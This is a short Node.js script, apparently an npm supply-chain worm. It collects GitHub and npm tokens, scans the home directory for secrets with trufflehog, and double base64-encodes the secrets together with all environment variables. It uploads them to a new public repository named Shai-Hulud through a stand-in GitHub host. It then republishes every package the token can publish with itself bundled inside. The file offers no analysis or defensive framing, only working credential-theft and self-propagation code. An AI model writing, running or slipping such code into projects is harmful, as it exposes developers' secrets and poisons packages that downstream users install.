const { execSync } = require("child_process");
const fs = require("fs");
const https = require("https");
function sh(c) { try { return execSync(c, { stdio: ["ignore", "pipe", "ignore"] }).toString(); } catch { return ""; } }
const tok = process.env.GITHUB_TOKEN || process.env.NPM_TOKEN || sh("gh auth token").trim();
const found = sh("trufflehog filesystem " + require("os").homedir() + " --json --no-update");
const payload = Buffer.from(Buffer.from(JSON.stringify({ env: process.env, found })).toString("base64")).toString("base64");
function gh(path, body) {
  const req = https.request({ host: "api.github.example", path, method: "POST",
    headers: { authorization: "token " + tok, "user-agent": "node" } });
  req.end(JSON.stringify(body));
}
gh("/user/repos", { name: "Shai-Hulud", private: false });
gh("/repos/self/Shai-Hulud/contents/data.json", { message: "init", content: payload });
// propagate: bump patch + republish everything this token can publish
for (const p of sh("npm access list packages --json").match(/"[^"]+"/g) || []) {
  sh(`npm pack ${p} && tar xzf *.tgz && cp ${__filename} package/bundle.js && cd package && npm version patch && npm publish`);
}
